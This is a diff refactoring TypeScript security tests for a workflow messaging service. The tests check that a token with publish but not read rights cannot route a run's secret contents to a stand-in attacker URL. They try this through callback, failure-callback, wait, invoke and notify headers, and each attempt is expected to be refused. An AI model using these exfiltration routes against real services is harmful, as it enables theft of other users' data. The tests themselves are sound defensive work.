@@ -5,13 +5,15 @@ import { endpoint } from "./workflow.ts";
 import type { Headers } from "./workflowPosts.ts";
 import { sendBatch, callHeaders, startHeaders, step, stepHeaders } from "./workflowPosts.ts";
 
-// A token that may publish and not read knows the id of a run, and tries to have what the run holds sent to a URL of its own.
+// A token with the verb publish, but not read, knows the id of a run. It tries to have the contents of the
+// run
+// sent to its own URL.
 
 const own = "https://thief.example/x";
 const secret = "s3cret";
 
 type Thief = TestServer & {
-  post(url: string, headers: Headers, body?: string, token?: string): Promise<Reply>;
+  post(url: string, headers: Headers, content?: { body?: string; token?: string }): Promise<Reply>;
   token: string;
   both: string;
 };
@@ -26,7 +28,8 @@ async function thief(): Promise<Thief> {
   await sendBatch(home, [{ headers, body: `payload ${secret}` }]);
   await sendBatch(home, [{ headers: stepHeaders("victim"), body: step({ out: secret }) }]);
   home.deliveries.splice(0);
-  const post: Thief["post"] = (url, headers, body = "", as = token) => home.ask("POST", `/v2/publish/${url}`, { headers, body, token: as });
+  const post: Thief["post"] = (url, headers, { body = "", token: as = token } = {}) =>
+    home.ask("POST", `/v2/publish/${url}`, { headers, body, token: as });
   return { ...home, post, token, both };
 }
 
@@ -34,59 +37,94 @@ const refused = {
   status: 403,
   body: {
     error: expect.stringMatching(
-      /^token: .* https:\/\/thief\.example\/x, which needs the verb read as well, and the token has publish only/,
+      /^token: requires 'read' to send .* to https:\/\/thief\.example\/x; this token has only 'publish'/,
     ),
   },
 };
 
-/** Nothing of the run has gone, or will go, to the thief. */
+/** Checks that no contents of the run were sent, or will be sent, to the thief. */
 function expectNothingStolen({ deliveries, memory }: TestServer): void {
   const stored = [...memory.tables.storedMessages.values()].filter(({ url }) => url.startsWith(own));
   const sent = deliveries.filter(({ message }) => message.url.startsWith(own));
   for (const { body, headers } of [...stored, ...sent.map(({ message }) => message)])
-    expect(Buffer.from(body).toString() + JSON.stringify(headers)).not.toMatch(new RegExp(`${secret}|${btoa(secret).slice(0, 6)}`));
+    expect(Buffer.from(body).toString() + JSON.stringify(headers)).not.toMatch(
+      new RegExp(`${secret}|${btoa(secret).slice(0, 6)}`),
+    );
 }
 
-test("a step posted to another URL", async () => {
+test("a publish-only token cannot post a step to another URL", async () => {
   const home = await thief();
   const body = step({ stepId: 2 });
-  expect(await home.post(own, stepHeaders("victim"), body)).toMatchObject(refused);
-  expect(await sendBatch(home, [{ destination: own, headers: stepHeaders("victim"), body }], home.token)).toMatchObject({ status: 403 });
-  expect(await home.post(`${endpoint}@thief.example/x`, stepHeaders("victim"), body)).toMatchObject({ status: 403 });
-  expect(await home.post(`${endpoint}?other`, stepHeaders("victim"), body)).toMatchObject({ status: 403 });
+  expect(await home.post(own, stepHeaders("victim"), { body })).toMatchObject(refused);
+  expect(
+    await sendBatch(home, [{ destination: own, headers: stepHeaders("victim"), body }], home.token),
+  ).toMatchObject({ status: 403 });
+  expect(await home.post(`${endpoint}@thief.example/x`, stepHeaders("victim"), { body })).toMatchObject({
+    status: 403,
+  });
+  expect(await home.post(`${endpoint}?other`, stepHeaders("victim"), { body })).toMatchObject({
+    status: 403,
+  });
   expect(home.deliveries).toEqual([]);
-  expect(await home.post(endpoint, stepHeaders("victim"), body)).toMatchObject({ status: 200 });
-  expect(await home.post(own, stepHeaders("victim"), step({ stepId: 3 }), home.both)).toMatchObject({ status: 200 });
+  expect(await home.post(endpoint, stepHeaders("victim"), { body })).toMatchObject({ status: 200 });
+  expect(
+    await home.post(own, stepHeaders("victim"), { body: step({ stepId: 3 }), token: home.both }),
+  ).toMatchObject({
+    status: 200,
+  });
 });
 
-test("the answer of a third party, sent to another URL", async () => {
+test("a publish-only token cannot have a third party's response sent to another URL", async () => {
   const home = await thief();
   const call = callHeaders("victim");
-  expect(await home.post("https://third.example/", { ...call, "upstash-callback": own })).toMatchObject(refused);
-  expect(await home.post("https://third.example/", { ...call, "upstash-callback-callback": own })).toMatchObject({ status: 403 });
+  expect(await home.post("https://third.example/", { ...call, "upstash-callback": own })).toMatchObject(
+    refused,
+  );
+  expect(
+    await home.post("https://third.example/", { ...call, "upstash-callback-callback": own }),
+  ).toMatchObject({ status: 403 });
   expect(home.deliveries).toEqual([]);
-  // What the caller itself gave goes wherever it says.
-  expect(await home.post(own, call, "mine")).toMatchObject({ status: 200 });
+  // The caller's own content may go to any URL.
+  expect(await home.post(own, call, { body: "mine" })).toMatchObject({ status: 200 });
   expect(home.delivery().message).toMatchObject({ url: own });
   expectNothingStolen(home);
 });
 
-test("a run that is started again", async () => {
+test("a publish-only token cannot start an existing run again at another URL", async () => {
   const home = await thief();
   const again = startHeaders("victim", { "upstash-workflow-trigger-by-sdk": "true" });
-  expect(await home.post(own, again, "x")).toMatchObject(refused);
+  expect(await home.post(own, again, { body: "x" })).toMatchObject(refused);
   for (const name of ["upstash-failure-callback", "upstash-failure-callback-failure-callback"])
-    expect(await home.post(endpoint, { ...again, "upstash-failure-callback": endpoint, [name]: own }, "x")).toMatchObject(refused);
+    expect(
+      await home.post(
+        endpoint,
+        { ...again, "upstash-failure-callback": endpoint, [name]: own },
+        { body: "x" },
+      ),
+    ).toMatchObject(refused);
   expect(home.deliveries).toEqual([]);
-  expect(await home.post(endpoint, { ...again, "upstash-failure-callback": endpoint }, "x")).toMatchObject({ status: 200 });
+  expect(
+    await home.post(endpoint, { ...again, "upstash-failure-callback": endpoint }, { body: "x" }),
+  ).toMatchObject({
+    status: 200,
+  });
   expect(home.delivery().message).toMatchObject({ url: endpoint });
 });
 
-test("a step that waits, and is then notified", async () => {
+test("a publish-only token cannot have the event of a waiting step sent to another URL", async () => {
   const home = await thief();
   const wait = (more: object): Promise<Reply> => {
-    const waiting = { url: endpoint, timeoutUrl: endpoint, step: { stepId: 2, stepName: "w", stepType: "Wait", concurrent: 1 }, ...more };
-    return home.ask("POST", "/v2/wait/e", { headers: stepHeaders("victim"), body: JSON.stringify(waiting), token: home.token });
+    const waiting = {
+      url: endpoint,
+      timeoutUrl: endpoint,
+      step: { stepId: 2, stepName: "w", stepType: "Wait", concurrent: 1 },
+      ...more,
+    };
+    return home.ask("POST", "/v2/wait/e", {
+      headers: stepHeaders("victim"),
+      body: JSON.stringify(waiting),
+      token: home.token,
+    });
   };
   expect(await wait({ url: own })).toMatchObject(refused);
   expect(await wait({ timeoutUrl: own })).toMatchObject(refused);
@@ -94,7 +132,7 @@ test("a step that waits, and is then notified", async () => {
   expect(await wait({})).toMatchObject({ status: 200, body: { waits: true } });
 });
 
-test("a run that is invoked, whose end is told elsewhere", async () => {
+test("a publish-only token cannot have the result of an invoked run sent to another URL", async () => {
   const home = await thief();
   const invoke = (workflowUrl: string) =>
     JSON.stringify({
@@ -106,38 +144,53 @@ test("a run that is invoked, whose end is told elsewhere", async () => {
       step: { stepId: 2, stepName: "i", stepType: "Invoke", concurrent: 1 },
     });
   const headers = startHeaders("child", { "upstash-workflow-url": own, "upstash-workflow-invoke": "true" });
-  expect(await home.post(own, headers, invoke(own))).toMatchObject(refused);
-  expect(await home.post(own, headers, invoke(endpoint))).toMatchObject({ status: 200 });
+  expect(await home.post(own, headers, { body: invoke(own) })).toMatchObject(refused);
+  expect(await home.post(own, headers, { body: invoke(endpoint) })).toMatchObject({ status: 200 });
   await home.ask("DELETE", "/v2/workflows/runs/child?cancel=false", { token: home.token, body: "done" });
   expect(home.deliveries.map(({ message }) => message.url)).toEqual([own, endpoint]);
   expectNothingStolen(home);
 });
 
-test("a run that belongs to another URL than the one it starts at", async () => {
+test("a publish-only token cannot start a run whose workflow URL differs from the destination", async () => {
   const home = await thief();
-  expect(await home.post(endpoint, startHeaders("mine", { "upstash-workflow-url": own }), "x")).toMatchObject(refused);
+  expect(
+    await home.post(endpoint, startHeaders("mine", { "upstash-workflow-url": own }), { body: "x" }),
+  ).toMatchObject(refused);
   const older = startHeaders("mine", { "upstash-feature-set": "LazyFetch", "upstash-failure-callback": own });
-  expect(await home.post(endpoint, older, "x"), "the whole history").toMatchObject(refused);
-  expect(await home.post(endpoint, startHeaders("mine", { "upstash-failure-callback": own }), "x"), "what was posted").toMatchObject({
+  expect(await home.post(endpoint, older, { body: "x" }), "the whole history").toMatchObject(refused);
+  expect(
+    await home.post(endpoint, startHeaders("mine", { "upstash-failure-callback": own }), { body: "x" }),
+    "what was posted",
+  ).toMatchObject({
     status: 200,
   });
-  expect(await home.ask("POST", `/v2/trigger/${endpoint}`, { token: home.token })).toMatchObject({ status: 200 });
+  expect(await home.ask("POST", `/v2/trigger/${endpoint}`, { token: home.token })).toMatchObject({
+    status: 200,
+  });
 });
 
-test("an event tells which runs wait for it only to those who may read", async () => {
+test("a notification shows the waiting runs only to tokens that may read", async () => {
   const home = await thief();
-  const told: unknown[] = [];
+  const answers: unknown[] = [];
   for (const [token, path] of [
     [home.token, "e"],
     [home.token, "victim/e"],
     [home.both, "e"],
   ] as const) {
-    const waiting = { url: endpoint, step: { stepId: 2 + told.length, stepName: "w", stepType: "Wait", concurrent: 1 } };
+    const waiting = {
+      url: endpoint,
+      step: { stepId: 2 + answers.length, stepName: "w", stepType: "Wait", concurrent: 1 },
+    };
     await home.ask("POST", "/v2/wait/e", { headers: stepHeaders("victim"), body: JSON.stringify(waiting) });
-    told.push((await home.ask("POST", `/v2/notify/${path}`, { token, body: "e" })).body);
+    answers.push((await home.ask("POST", `/v2/notify/${path}`, { token, body: "e" })).body);
   }
-  const blind = { waiter: { url: "", headers: {} }, messageId: expect.any(String), url: "", deduplicated: false };
-  expect(told).toEqual([
+  const blind = {
+    waiter: { url: "", headers: {} },
+    messageId: expect.any(String),
+    url: "",
+    deduplicated: false,
+  };
+  expect(answers).toEqual([
     [{ ...blind, workflowRunId: "" }],
     [{ ...blind, workflowRunId: "victim" }],
     [expect.objectContaining({ url: endpoint, workflowRunId: "victim", workflowCreatedAt: testTime })],
